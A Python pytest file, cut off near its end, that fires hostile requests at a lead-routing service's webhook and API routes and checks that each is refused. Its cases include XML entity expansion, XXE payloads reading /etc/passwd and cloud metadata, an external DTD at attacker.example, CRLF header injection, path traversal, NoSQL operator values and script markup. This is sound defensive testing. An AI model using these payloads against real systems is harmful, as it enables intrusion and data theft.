"""A corpus of hostile and malformed requests against every HTTP route.

Each refusal must be a 4xx with a clear error (the JSON error body; a SOAP fault for
Salesforce; the small HTML page, or the JSON body, for one-click links), come back in
well under two seconds, and write nothing: no lead, execution, email or disposition, and no change to
a lead that already exists. The markup family is the exception: a signed lead carrying
HTML or script may be accepted, because text is stored as data and escaped on output,
so those cases check the escaping instead.

A case marked xfail(strict) is a known bug: the test asserts the correct behaviour.
"""

from __future__ import annotations

import base64
import copy
import email
import email.policy
import hashlib
import json
import re
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

import boto3
import pytest
from _pytest.mark.structures import ParameterSet

from handoff.aws import container
from handoff.aws.tables import DISPOSITIONS, REPS
from handoff.crm.hubspot_signature import sign_v3
from handoff.crm.signature import sign_generic
from handoff.deploy.functions import API, DISPOSITION, QUALIFY, FunctionSpec, Route
from handoff.domain.clock import utcnow
from handoff.domain.link_tokens import make_token
from handoff.local import lambdas
from handoff.local.http_front import build_event, match
from handoff.local.provision import table_name
from tests.conftest import EXAMPLES, sample
from tests.integration.conftest import SECRETS, Aws, rep, use_config

MAX_BODY = 1024 * 1024  # settings().max_body_bytes
TOO_BIG = MAX_BODY + 1
# A hang guard, not a speed target (those live in `make bench`): a refusal takes milliseconds,
# while an entity expansion or a catastrophic regex that got through would take far longer.
HANG_SECONDS = 10.0
GENERIC_SECRET = SECRETS["HANDOFF_GENERIC_SECRET"]
HUBSPOT_SECRET = SECRETS["HANDOFF_HUBSPOT_APP_SECRET"]
API_KEY = SECRETS["HANDOFF_API_KEY"]
LINK_KEY = SECRETS["HANDOFF_LINK_KEY"]
SF_TOKEN = SECRETS["HANDOFF_SALESFORCE_TOKEN"]
HUBSPOT_URI = "https://handoff.test/webhooks/hubspot"  # HANDOFF_PUBLIC_BASE_URL + the route
SALESFORCE = f"/webhooks/salesforce?token={SF_TOKEN}"
FORM = {"Content-Type": "application/x-www-form-urlencoded"}

LEAD = sample("01")
HUBSPOT_CONTACT = json.loads((EXAMPLES / "webhooks/hubspot/workflow-contact-demo-request.json").read_text())
HUBSPOT_EVENT = json.loads((EXAMPLES / "webhooks/hubspot/events-mql-and-creation.json").read_text())[0]
OUTBOUND = (EXAMPLES / "webhooks/salesforce/outbound-message-lead-and-contact.xml").read_text()
XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>'
assert OUTBOUND.startswith(XML_DECL)

SCRIPT = "<script>alert(1)</script>"
JS_URL = "javascript:alert(1)"


# --- requests, answers and the "nothing written" snapshot ---------------------------------


@dataclass(frozen=True)
class Ctx:
    """What a case may refer to: the notified lead made before the baseline, if it needs one."""

    lead_id: str = ""

    def token(self, outcome: str = "connected", **claims: Any) -> str:
        values: dict[str, Any] = {"lead_id": self.lead_id, "rep_id": "r1", "outcome": outcome}
        key = claims.pop("key", LINK_KEY)
        now = claims.pop("now", utcnow())
        return make_token(key, now=now, ttl=timedelta(days=7), **(values | claims))


Headers = dict[str, str] | Callable[[bytes], dict[str, str]]


@dataclass(frozen=True)
class Case:
    method: str
    path: str | Callable[[Ctx], str]  # "{lead}" stands for the lead made before the baseline
    body: bytes = b""
    headers: Headers = field(default_factory=dict)  # a callable signs the body at send time
    status: int | tuple[int, ...] = 400
    says: str | tuple[str, ...] = ""  # the message names what was wrong (any one of these)
    function: FunctionSpec | None = None  # for requests no route matches

    @property
    def needs_lead(self) -> bool:
        return callable(self.path) or "{lead}" in self.path


@dataclass(frozen=True)
class Answer:
    status: int
    content_type: str
    text: str
    seconds: float


def send(case: Case, ctx: Ctx) -> Answer:
    path = case.path(ctx) if callable(case.path) else case.path.replace("{lead}", ctx.lead_id)
    headers = case.headers(case.body) if callable(case.headers) else dict(case.headers)
    found = match(case.method, path.split("?", maxsplit=1)[0])
    if found is None:
        assert case.function, f"no route {case.method} {path}"
        found = (Route(case.method, path.split("?", maxsplit=1)[0], case.function), {})
    route, params = found
    event = build_event(
        route, params=params, method=case.method, raw_path=path, headers=headers, body=case.body
    )
    started = time.perf_counter()
    try:
        result = lambdas.invoke(route.function, event)
    except Exception as exc:  # what API Gateway turns an unhandled exception into
        return Answer(502, "crash", f"{type(exc).__name__}: {exc}"[:300], time.perf_counter() - started)
    seconds = time.perf_counter() - started
    out_headers = result.get("headers") or {
        k: v[0] for k, v in (result.get("multiValueHeaders") or {}).items()
    }
    text = result.get("body") or ""
    if result.get("isBase64Encoded"):
        text = base64.b64decode(text).decode()
    return Answer(int(result["statusCode"]), out_headers.get("Content-Type", ""), text, seconds)


def count(table: str) -> int:
    return int(boto3.client("dynamodb").scan(TableName=table_name(table), Select="COUNT")["Count"])


def snapshot(aws: Aws, lead_id: str) -> dict[str, Any]:
    """Everything a request could write."""
    return {
        "leads": aws.leads_count(),
        "executions": sorted((e["name"], e["status"]) for e in aws.executions()),
        "emails": len(aws.sent_emails()),
        "dispositions": count(DISPOSITIONS),
        "reps": sorted(boto3.client("dynamodb").scan(TableName=table_name(REPS))["Items"], key=str),
        "lead": container.ports().leads.get_item(lead_id) if lead_id else None,
    }


def assert_clear_refusal(case: Case, answer: Answer) -> None:
    """A 4xx whose body says what was wrong, in the format the caller reads."""
    shown = f"{answer.status} {answer.text[:300]}"
    assert 400 <= answer.status < 500, shown
    expected = case.status if isinstance(case.status, tuple) else (case.status,)
    assert answer.status in expected, shown
    path = case.path if isinstance(case.path, str) else "/d/"
    if case.function:  # no route matched: the resolver's own JSON 404
        path = "/unrouted"
    if path.startswith("/webhooks/salesforce"):
        assert answer.content_type.startswith("text/xml"), shown
        fault = re.search(r"<faultstring>(.*?)</faultstring>", answer.text, re.DOTALL)
        assert fault and fault.group(1).strip(), shown
        message = fault.group(1)
    elif path.startswith("/d/") and answer.content_type.startswith("text/html"):
        # The one-click pages answer a person in a browser with a small page; a request the
        # resolver cannot even read gets the JSON error body below.
        heading = re.search(r"<h1[^>]*>(.*?)</h1>\s*<p[^>]*>(.*?)</p>", answer.text, re.DOTALL)
        assert heading and heading.group(1).strip() and heading.group(2).strip(), shown
        message = heading.group(2)
        assert "<script" not in answer.text.lower(), shown  # nothing from the request is reflected raw
    else:
        assert answer.content_type.startswith("application/json"), shown
        body = json.loads(answer.text)
        assert set(body) == {"error", "message", "details"}, shown
        assert isinstance(body["error"], str) and body["error"], shown
        assert isinstance(body["message"], str) and body["message"].strip(), shown
        assert isinstance(body["details"], list), shown
        message = body["message"]
    fragments = case.says if isinstance(case.says, tuple) else (case.says,)
    assert any(f in message for f in fragments), f"{fragments} not in {message!r}"


# --- signing -------------------------------------------------------------------------------


def generic_signed(
    body: bytes, *, secret: str = GENERIC_SECRET, skew: int = 0, extra: str = ""
) -> dict[str, str]:
    return {
        "Content-Type": "application/json",
        "X-Handoff-Signature": sign_generic(secret, body, int(time.time()) + skew) + extra,
    }


def hubspot_signed(
    body: bytes,
    *,
    secret: str = HUBSPOT_SECRET,
    skew_ms: int = 0,
    uri: str = HUBSPOT_URI,
    signed_body: bytes | None = None,
) -> dict[str, str]:
    timestamp = str(int(time.time() * 1000) + skew_ms)
    signature = sign_v3(secret, "POST", uri, body if signed_body is None else signed_body, timestamp)
    return {
        "Content-Type": "application/json",
        "X-HubSpot-Signature-v3": signature,
        "X-HubSpot-Request-Timestamp": timestamp,
    }


def with_key(key: str = API_KEY) -> dict[str, str]:
    return {"Content-Type": "application/json", "x-api-key": key}


# --- payload builders ------------------------------------------------------------------------


def dumps(data: Any) -> bytes:
    return json.dumps(data).encode()


def lead_with(dotted: str, value: Any, base: dict[str, Any] = LEAD) -> dict[str, Any]:
    """The sample lead with one field (``a.b``, ``activities.0.title``) set; a ``...`` value drops it."""
    lead = copy.deepcopy(base)
    *parents, last = dotted.split(".")
    node: Any = lead
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node[part]
    key: Any = int(last) if isinstance(node, list) else last
    if value is ...:
        del node[key]
    else:
        node[key] = value
    return lead


def dig(data: Any, dotted: str) -> Any:
    for part in dotted.split("."):
        data = data[int(part)] if isinstance(data, list) else data[part]
    return data


def padded(body: bytes, size: int = TOO_BIG) -> bytes:
    """A body that is valid in every way but its size: JSON and XML allow trailing whitespace."""
    return body + b" " * (size - len(body))


def hubspot_with(prop: str, value: Any) -> dict[str, Any]:
    contact = copy.deepcopy(HUBSPOT_CONTACT)
    contact["properties"][prop] = {"value": value}
    return contact


def outbound(old: str = "", new: str = "", doctype: str = "") -> bytes:
    """The sample Outbound Message, with one text replacement and an optional DOCTYPE."""
    assert not old or old in OUTBOUND, old
    xml = OUTBOUND.replace(old, new, 1) if old else OUTBOUND
    return xml.replace(XML_DECL, XML_DECL + doctype, 1).encode()


def notifications(count: int) -> bytes:
    start = OUTBOUND.index("<Notification>")
    end = OUTBOUND.index("</Notification>") + len("</Notification>")
    one = OUTBOUND[start:end]
    many = "".join(one.replace("04l5g00000AAAA1AAA", f"04l5g0000{i:09d}") for i in range(count))
    return (OUTBOUND[:start] + many + OUTBOUND[OUTBOUND.rindex("</notifications>") :]).encode()


def nested(depth: int, opener: str = "[", closer: str = "]") -> bytes:
    return (opener * depth + closer * depth).encode()


def param(case_id: str, case: Case, bug: str | None = None) -> ParameterSet:
    marks = [pytest.mark.xfail(strict=True, reason=f"BUG: {bug}")] if bug else []
    return pytest.param(case, id=case_id, marks=marks)


def generic(
    case_id: str, body: bytes | dict[str, Any], says: str | tuple[str, ...], **kw: Any
) -> ParameterSet:
    bug = kw.pop("bug", None)
    data = body if isinstance(body, bytes) else dumps(body)
    return param(
        case_id,
        Case("POST", "/webhooks/generic", data, kw.pop("headers", generic_signed), says=says, **kw),
        bug,
    )


def hubspot(case_id: str, body: bytes | Any, says: str | tuple[str, ...], **kw: Any) -> ParameterSet:
    bug = kw.pop("bug", None)
    data = body if isinstance(body, bytes) else dumps(body)
    return param(
        case_id,
        Case("POST", "/webhooks/hubspot", data, kw.pop("headers", hubspot_signed), says=says, **kw),
        bug,
    )


def salesforce(case_id: str, body: bytes, says: str, **kw: Any) -> ParameterSet:
    bug = kw.pop("bug", None)
    path = kw.pop("path", SALESFORCE)
    headers = kw.pop("headers", {"Content-Type": "text/xml; charset=utf-8"})
    return param(case_id, Case("POST", path, body, headers, says=says, **kw), bug)


def dispose(
    case_id: str, body: bytes | dict[str, Any], says: str | tuple[str, ...], **kw: Any
) -> ParameterSet:
    bug = kw.pop("bug", None)
    data = body if isinstance(body, bytes) else dumps(body)
    path = kw.pop("path", "/leads/{lead}/disposition")
    return param(case_id, Case("POST", path, data, kw.pop("headers", with_key()), says=says, **kw), bug)


def link(
    case_id: str, method: str, token: Callable[[Ctx], str], status: int, says: str, **kw: Any
) -> ParameterSet:
    bug = kw.pop("bug", None)
    body = kw.pop("body", b"note=hostile" if method == "POST" else b"")
    path: Callable[[Ctx], str] = lambda ctx: f"/d/{token(ctx)}"  # noqa: E731
    return param(case_id, Case(method, path, body, kw.pop("headers", FORM), status, says, **kw), bug)


# --- the families ------------------------------------------------------------------------------

NESTED_OBJECTS = b'{"a":' * 10_000 + b"1" + b"}" * 10_000


def json_syntax() -> Iterator[ParameterSet]:
    """Bodies that are not the JSON object the route reads."""
    for name, body, says in [
        ("truncated", dumps(LEAD)[:60], "not valid JSON"),
        ("utf8-bom", b"\xef\xbb\xbf" + dumps(LEAD), "not valid JSON"),
        ("nested-10000-arrays", nested(10_000), "nested deeper"),
        ("nested-10000-objects", NESTED_OBJECTS, "nested deeper"),
        ("nested-33-in-a-field", dumps(lead_with("contact.x", json.loads(nested(33)))), "nested deeper"),
        ("array", dumps([LEAD]), "must be a JSON object, not list"),
        ("number", b"42", "must be a JSON object, not int"),
        ("null", b"null", "must be a JSON object, not NoneType"),
        ("empty-object", b"{}", "invalid lead: event_id, contact, trigger"),
        ("dup-key-contact-string", dumps(LEAD)[:-1] + b', "contact": "me"}', "contact"),
        ("dup-key-event-id-int", dumps(LEAD)[:-1] + b', "event_id": 7}', "event_id"),
    ]:
        yield generic(f"json-generic-{name}", body, says)
    for name, body, says in [
        ("truncated", dumps(HUBSPOT_CONTACT)[:80], "not valid JSON"),
        ("nested-10000-arrays", nested(10_000), "nested deeper"),
        ("number", b"42", "contact object or an event array, not int"),
        ("array-of-arrays", b"[[1]]", "invalid HubSpot event"),
        ("dup-key-properties", dumps(HUBSPOT_CONTACT)[:-1] + b', "properties": "x"}', "must be an object"),
    ]:
        yield hubspot(f"json-hubspot-{name}", body, says)
    for name, body, says, bug in [
        ("truncated", b'{"outcome": "conn', "invalid request", None),
        ("nested-10000-arrays", nested(10_000), "", None),
        ("nested-10000-objects", NESTED_OBJECTS, "", None),
        ("array", b'[{"outcome": "connected"}]', ("invalid request", "object"), None),
        ("null", b"null", "invalid request", None),
        ("dup-key-outcome", b'{"outcome": "connected", "outcome": "won"}', "outcome must be one of", None),
    ]:
        yield dispose(f"json-disposition-{name}", body, says, bug=bug)


def numbers() -> Iterator[ParameterSet]:
    """NaN and Infinity are not JSON; a number must fit what the store can hold."""
    for name, dotted, literal, says, bug in [
        ("score-nan", "score", "NaN", ("score", "JSON"), None),
        ("revenue-nan", "company.annual_revenue", "NaN", ("annual_revenue", "JSON"), None),
        ("revenue-infinity", "company.annual_revenue", "Infinity", ("annual_revenue", "JSON"), None),
        ("employees-100-digits", "company.employees", "9" * 100, "employees", None),
        ("employees-5000-digits", "company.employees", "9" * 5000, ("employees", "digits"), None),
        ("revenue-1e300", "company.annual_revenue", "1e300", "annual_revenue", None),
    ]:
        body = json.dumps(lead_with(dotted, "@@")).replace('"@@"', literal).encode()
        yield generic(f"number-generic-{name}", body, says, bug=bug)
    employees = hubspot_with("numberofemployees", "1e100")
    yield hubspot("number-hubspot-employees-1e100", employees, "employees")
    revenue = outbound("<sf:AnnualRevenue>42000000<", "<sf:AnnualRevenue>1e300<")
    yield salesforce("number-salesforce-revenue-1e300", revenue, "annual_revenue")
    yield dispose("number-disposition-outcome-nan", b'{"outcome": NaN}', "outcome")


def wrong_types() -> Iterator[ParameterSet]:
    """Well-formed JSON whose fields have the wrong type or an impossible value."""
    for name, dotted, value in [
        ("contact-string", "contact", "jordan@northwind.example"),
        ("contact-missing", "contact", ...),
        ("email-number", "contact.email", 42),
        ("email-not-an-address", "contact.email", "jordan at northwind"),
        ("email-with-markup", "contact.email", f"{SCRIPT}@northwind.example"),
        ("email-header-injection", "contact.email", "jo@northwind.example\r\nBcc: all@corp.example"),
        ("employees-lots", "company.employees", "lots"),
        ("activities-object", "activities", {"type": "page_view"}),
        ("activity-without-type", "activities.0.type", ...),
        ("trigger-type-blank", "trigger.type", "   "),
        ("event-id-object", "event_id", {"$ne": None}),
    ]:
        yield generic(f"type-generic-{name}", lead_with(dotted, value), dotted.split(".")[0])
    no_canonical = {k: v for k, v in HUBSPOT_CONTACT.items() if k != "canonical-vid"}
    for name, body, says in [
        ("email-number", hubspot_with("email", 42), "contact.email"),
        ("vid-object", {**no_canonical, "vid": {"$gt": 0}}, "no vid"),
        ("properties-array", {**HUBSPOT_CONTACT, "properties": []}, "properties must be an object"),
        ("event-id-object", [{**HUBSPOT_EVENT, "eventId": {"$gt": 0}}], "invalid HubSpot event"),
    ]:
        yield hubspot(f"type-hubspot-{name}", body, says)


def sizes() -> Iterator[ParameterSet]:
    """Too long, too many, too large: 1 MB+1 on every POST route is a 413."""
    big = "x" * 100_000
    for name, dotted, value in [
        ("title-100kb", "contact.title", big),
        ("activity-url-100kb", "activities.0.url", "https://example.com/" + big),
        ("activities-201", "activities", [{"type": "page_view"}] * 201),
    ]:
        yield generic(f"size-generic-{name}", lead_with(dotted, value), dotted.split(".")[0])
    yield generic(
        "size-generic-record-over-400kb",
        lead_with("activities", [{"type": "page_view", "url": "https://example.com/" + "a" * 2000}] * 200),
        ("too large", "limit", "activities"),
        status=(400, 413),
    )
    yield generic("size-generic-1mb-plus-1", padded(dumps(LEAD)), "limit", status=413)
    yield hubspot("size-hubspot-1mb-plus-1", padded(dumps(HUBSPOT_CONTACT)), "limit", status=413)
    yield hubspot("size-hubspot-101-events", [HUBSPOT_EVENT] * 101, "1 to 100 events, not 101")
    yield hubspot("size-hubspot-email-100kb", hubspot_with("email", big + "@x.example"), "contact.email")
    yield salesforce("size-salesforce-1mb-plus-1", padded(outbound()), "limit", status=413)
    body = padded(b'{"outcome": "connected"}')
    yield dispose("size-disposition-1mb-plus-1", body, "limit", status=413)
    body = padded(b"note=hi&pad=", TOO_BIG - 1) + b"x"
    yield link("size-link-post-1mb-plus-1", "POST", Ctx.token, 413, "limit", body=body)


def xml_attacks() -> Iterator[ParameterSet]:
    """Entity expansion, external entities, wrong envelopes and non-XML, against the SOAP route."""
    refused = "DTD or entities is refused"
    address = "sam.rivera@meridian.example<"
    chain = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    parameter_chain = (
        '<!DOCTYPE e [<!ENTITY % a "lol"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;%a;%a;">'
        '<!ENTITY % c "%b;%b;%b;%b;%b;%b;%b;%b;%b;%b;"><!ENTITY lol "%c;">]>'
    )
    quadratic = f'<!DOCTYPE e [<!ENTITY a "{"a" * 50_000}">]>'
    for name, body, says in [
        (
            "billion-laughs-in-email",
            outbound(address, "&l9;<", f'<!DOCTYPE e [<!ENTITY l0 "lol">{chain}]>'),
            refused,
        ),
        ("billion-laughs-parameter-entities", outbound(doctype=parameter_chain), refused),
        ("quadratic-blowup", outbound("Sam<", "&a;" * 20_000 + "<", quadratic), refused),
        (
            "xxe-passwd-in-email",
            outbound(address, "&x;<", '<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
            refused,
        ),
        (
            "xxe-parameter-entity",
            outbound(doctype='<!DOCTYPE e [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]>'),
            refused,
        ),
        (
            "xxe-ssrf-instance-metadata",
            outbound("Sam<", "&m;<", '<!DOCTYPE e [<!ENTITY m SYSTEM "http://169.254.169.254/latest/">]>'),
            refused,
        ),
        (
            "external-dtd",
            outbound(doctype='<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">'),
            refused,
        ),
        ("101-notifications", notifications(101), "1 to 100 notifications, not 101"),
        (
            "envelope-without-body",
            b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"/>',
            "SOAP",
        ),
        ("body-without-notifications", outbound().replace(b"notifications", b"other"), "SOAP Envelope"),
        ("nul-byte", outbound("Sam<", "S\x00am<"), "not well-formed XML"),
        ("nested-100000-elements", b"<a>" * 100_000 + b"</a>" * 100_000, "SOAP Envelope"),
        (
            "organization-id-missing",
            outbound("<OrganizationId>00D5g000004ABCDEAZ</OrganizationId>"),
            "OrganizationId",
        ),
        ("email-with-markup", outbound(address, "&lt;script&gt;@x.example<"), "contact.email"),
    ]:
        yield salesforce(f"xml-salesforce-{name}", body, says)


def invalid_utf8() -> Iterator[ParameterSet]:
    """Bytes that are not UTF-8, on every POST route."""
    yield generic("utf8-generic-bad-byte", dumps(LEAD).replace(b"Jordan", b"Jor\xffdan"), "not valid UTF-8")
    yield generic("utf8-generic-utf16-body", json.dumps(LEAD).encode("utf-16"), "not valid UTF-8")
    yield hubspot(
        "utf8-hubspot-bad-byte", dumps(HUBSPOT_CONTACT).replace(b"Dana", b"D\x80ana"), "not valid UTF-8"
    )
    yield salesforce(
        "utf8-salesforce-bad-byte", outbound().replace(b"Sam<", b"S\xffam<"), "not well-formed XML"
    )
    body = b'{"outcome": "conn\xffected"}'
    yield dispose("utf8-disposition-bad-byte", body, "UTF-8")
    yield link("utf8-link-post-bad-byte", "POST", Ctx.token, 400, "UTF-8", body=b"note=\xff\xfe")


def headers_and_content_types() -> Iterator[ParameterSet]:
    """Header injection, wrong or missing Content-Type, empty bodies."""
    crlf = "\r\nX-Injected: yes"
    body = dumps(LEAD)

    def hubspot_with_header(name: str, suffix: str) -> Callable[[bytes], dict[str, str]]:
        def headers(data: bytes) -> dict[str, str]:
            signed = hubspot_signed(data)
            return signed | {name: signed[name] + suffix}

        return headers

    def generic_with_type(content_type: str) -> Callable[[bytes], dict[str, str]]:
        def headers(data: bytes) -> dict[str, str]:
            signed = generic_signed(data) | {"Content-Type": content_type}
            return {k: v for k, v in signed.items() if v}

        return headers

    yield generic(
        "header-generic-crlf-in-signature",
        body,
        "does not match",
        status=401,
        headers=lambda data: generic_signed(data, extra=crlf),
    )
    yield generic(
        "header-generic-crlf-in-bearer",
        body,
        "bearer token is not valid",
        status=401,
        headers={"Authorization": f"Bearer {SECRETS['HANDOFF_GENERIC_TOKEN']}{crlf}"},
    )
    timestamp = hubspot_with_header("X-HubSpot-Request-Timestamp", crlf)
    yield hubspot(
        "header-hubspot-crlf-in-timestamp", HUBSPOT_CONTACT, "milliseconds", status=401, headers=timestamp
    )
    signature = hubspot_with_header("X-HubSpot-Signature-v3", crlf)
    yield hubspot(
        "header-hubspot-crlf-in-signature", HUBSPOT_CONTACT, "does not match", status=401, headers=signature
    )
    path = f"{SALESFORCE}%0D%0AX-Injected:%20yes"
    yield salesforce("header-salesforce-crlf-in-token", outbound(), "token", status=401, path=path)
    ok = {"outcome": "connected"}
    yield dispose(
        "header-disposition-crlf-in-api-key", ok, "x-api-key", status=401, headers=with_key(API_KEY + crlf)
    )
    multipart = b'--b\r\nContent-Disposition: form-data; name="lead"\r\n\r\n' + body + b"\r\n--b--\r\n"
    for name, content_type, data in [
        ("text-plain", "text/plain", b"Jordan Lee wants a demo"),
        ("multipart", "multipart/form-data; boundary=b", multipart),
        ("missing", "", b"event_id=e1"),
    ]:
        yield generic(
            f"content-type-generic-{name}", data, "not valid JSON", headers=generic_with_type(content_type)
        )
    multipart_xml = {"Content-Type": "multipart/form-data; boundary=b"}
    yield salesforce(
        "content-type-salesforce-multipart", multipart, "not well-formed XML", headers=multipart_xml
    )
    yield dispose(
        "content-type-disposition-form", b"outcome=connected", "invalid request", headers=with_key() | FORM
    )
    yield generic("empty-generic-signed", b"", "body is empty")
    yield generic("empty-generic-unsigned", b"", "body is empty", headers={})
    yield hubspot("empty-hubspot", b"", "body is empty")
    yield salesforce("empty-salesforce", b"", "body is empty")
    yield dispose("empty-disposition", b"", "invalid request")


def bad_auth() -> Iterator[ParameterSet]:
    """Missing, wrong, stale and future credentials on every authenticated route."""
    for name, headers, says in [
        ("none", {"Content-Type": "application/json"}, "missing X-Handoff-Signature"),
        ("garbage", {"X-Handoff-Signature": "garbage"}, "must look like"),
        ("wrong-secret", lambda data: generic_signed(data, secret="wrong"), "does not match"),
        ("stale-10-minutes", lambda data: generic_signed(data, skew=-600), "replay window"),
        ("future-10-minutes", lambda data: generic_signed(data, skew=600), "replay window"),
        ("over-another-body", lambda data: generic_signed(data + b" "), "does not match"),
        ("wrong-bearer", {"Authorization": "Bearer not-the-token"}, "bearer token is not valid"),
    ]:
        yield generic(f"auth-generic-{name}", dumps(LEAD), says, status=401, headers=headers)
    contact = dumps(HUBSPOT_CONTACT)
    for name, headers, says in [
        ("none", {"Content-Type": "application/json"}, "missing X-HubSpot-Signature"),
        ("v3-wrong-secret", lambda data: hubspot_signed(data, secret="wrong"), "does not match"),
        ("v3-stale-10-minutes", lambda data: hubspot_signed(data, skew_ms=-600_000), "replay window"),
        ("v3-future-10-minutes", lambda data: hubspot_signed(data, skew_ms=600_000), "replay window"),
        ("v3-over-another-body", lambda data: hubspot_signed(data, signed_body=b"{}"), "does not match"),
        (
            "v3-other-uri",
            lambda data: hubspot_signed(data, uri="https://evil.example/webhooks/hubspot"),
            "does not match",
        ),
        (
            "unknown-version",
            {"X-HubSpot-Signature": "x", "X-HubSpot-Signature-Version": "v9"},
            "not v1, v2 or v3",
        ),
    ]:
        yield hubspot(f"auth-hubspot-{name}", contact, says, status=401, headers=headers)
    for name, path in [
        ("no-token", "/webhooks/salesforce"),
        ("wrong-token", "/webhooks/salesforce?token=wrong"),
        ("empty-token", "/webhooks/salesforce?token="),
    ]:
        yield salesforce(f"auth-salesforce-{name}", outbound(), "token", status=401, path=path)
    other_org = outbound("00D5g000004ABCDEAZ", "00D000000000000AAA")
    yield salesforce("auth-salesforce-org-not-allowed", other_org, "not on the allowlist", status=401)
    keys = {
        "missing": {},
        "wrong": {"x-api-key": "wrong"},
        "as-bearer": {"Authorization": f"Bearer {API_KEY}"},
        "crlf": {"x-api-key": API_KEY + "\r\nX-Admin: true"},
    }
    for name, headers in keys.items():
        yield param(f"auth-reps-{name}", Case("GET", "/reps", headers=headers, status=401, says="x-api-key"))
    yield param(
        "auth-reps-key-in-query", Case("GET", f"/reps?x-api-key={API_KEY}", status=401, says="x-api-key")
    )
    for name in ("missing", "wrong"):
        case = Case("GET", "/leads/{lead}", headers=keys[name], status=401, says="x-api-key")
        yield param(f"auth-get-lead-{name}", case)
    for name in ("missing", "wrong", "as-bearer"):
        headers = {"Content-Type": "application/json"} | keys[name]
        yield dispose(
            f"auth-disposition-{name}", {"outcome": "connected"}, "x-api-key", status=401, headers=headers
        )


def _flip_last(token: str) -> str:
    return token[:-1] + ("B" if token.endswith("A") else "A")


def _swap_outcome(token: str) -> str:
    """The same signature over claims edited to another outcome."""
    version, payload, signature = token.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    edited = base64.urlsafe_b64encode(json.dumps({**claims, "o": "disqualify"}).encode()).rstrip(b"=")
    return f"{version}.{edited.decode()}.{signature}"


LINK_TOKENS: list[tuple[str, Callable[[Ctx], str], int, str]] = [
    ("tampered-signature", lambda ctx: _flip_last(ctx.token()), 403, "altered"),
    ("tampered-claims", lambda ctx: _swap_outcome(ctx.token()), 403, "altered"),
    ("truncated", lambda ctx: ctx.token()[:40], 410, "incomplete or damaged"),
    ("random", lambda ctx: "Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0", 410, "incomplete or damaged"),
    ("empty-parts", lambda ctx: "v1..", 403, "altered"),
    ("expired", lambda ctx: ctx.token(now=utcnow() - timedelta(days=8)), 410, "expired"),
    ("another-reps", lambda ctx: ctx.token(rep_id="r2"), 410, "moved to another rep"),
    ("unknown-lead", lambda ctx: ctx.token(lead_id="ld_000000000000000000000000"), 410, "no longer exists"),
]


GET_TOO = {"tampered-signature", "truncated", "random", "empty-parts", "expired"}


def link_tokens() -> Iterator[ParameterSet]:
    """One-click disposition links that must not work, on GET (confirm) and POST (record)."""
    for name, token, status, says in LINK_TOKENS:
        yield link(f"link-post-{name}", "POST", token, status, says)
        if name in GET_TOO:  # the rest share the POST's checks
            yield link(f"link-get-{name}", "GET", token, status, says)

    def disqualify(ctx: Ctx) -> str:
        return ctx.token("disqualify")

    yield link("link-post-reason-not-listed", "POST", disqualify, 400, "Pick one", body=b"reason=bored")
    markup = b"reason=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    yield link("link-post-reason-markup", "POST", disqualify, 400, "Pick one", body=markup)
    body = b"a=1&b=2&c=3&d=4&e=5&f=6&note=7"
    yield link("link-post-7-form-fields", "POST", Ctx.token, 400, "fields", body=body)


def disposition_api() -> Iterator[ParameterSet]:
    """Outcomes, reasons and notes the API must refuse, and lead ids that name nothing."""
    for name, body, says in [
        ("unknown-outcome", {"outcome": "won"}, "outcome must be one of"),
        ("outcome-empty", {"outcome": ""}, "outcome"),
        ("outcome-missing", {"note": "called"}, "outcome"),
        (
            "unknown-reason",
            {"outcome": "disqualify", "reason": "bored"},
            "reason for disqualify must be one of",
        ),
        ("reason-missing", {"outcome": "recycle"}, "reason for recycle must be one of"),
        ("reason-markup", {"outcome": "recycle", "reason": SCRIPT}, "reason"),
        ("note-2001-chars", {"outcome": "connected", "note": "n" * 2001}, "note"),
        ("mass-assignment-status", {"outcome": "connected", "status": "closed"}, "status"),
    ]:
        yield dispose(f"disposition-{name}", body, says)
    missing = ("not found", "no such route")
    for name, lead_id in [
        ("unknown", "ld_000000000000000000000000"),
        ("path-traversal", "..%2F..%2Fetc%2Fpasswd"),
        ("5000-chars", "x" * 5000),
        ("unicode", "ld_\u2603\u202e"),
    ]:
        path = f"/leads/{lead_id}/disposition"
        yield dispose(f"disposition-lead-id-{name}", {"outcome": "connected"}, missing, status=404, path=path)
    for name, lead_id in [("path-traversal", "..%2F..%2Fetc%2Fpasswd"), ("unicode", "ld_\u2603")]:
        case = Case("GET", f"/leads/{lead_id}", headers=with_key(), status=404, says=missing)
        yield param(f"get-lead-id-{name}", case)


def lead_listing() -> Iterator[ParameterSet]:
    """GET /leads: the key, and the status, limit and cursor query parameters."""

    def cursor(data: Any) -> str:
        return base64.urlsafe_b64encode(json.dumps(data).encode()).decode()

    forged = cursor({"lead_id": "ld_x", "open_status": "routing", "updated_at": "2026"})
    for name, query, says in [
        ("status-unknown", "status=bogus", "status: must be one of"),
        ("status-with-nul", "status=failed%00", "status: must be one of"),
        ("limit-zero", "limit=0", "limit: a whole number"),
        ("limit-101", "limit=101", "limit: a whole number"),
        ("limit-text", "limit=lots", "limit: a whole number"),
        ("next-not-base64", "next=%21%21%21", "next: not a cursor"),
        ("next-array", f"next={cursor([1])}", "next: not a cursor"),
        ("next-extra-keys", f"next={cursor({'lead_id': 'x', 'Limit': 1e9})}", "next: not a cursor"),
        ("next-for-another-status", f"status=failed&next={forged}", "next: not a cursor"),
    ]:
        yield param(f"list-leads-{name}", Case("GET", f"/leads?{query}", headers=with_key(), says=says))
    for name, headers in [("missing", {}), ("wrong", {"x-api-key": "wrong"})]:
        case = Case("GET", "/leads?status=failed", headers=headers, status=401, says="x-api-key")
        yield param(f"auth-list-leads-{name}", case)


def unrouted() -> Iterator[ParameterSet]:
    """Methods no route serves, should they reach a function: a JSON 404, not a crash."""
    for function, method, path in [
        (API, "POST", "/health"),
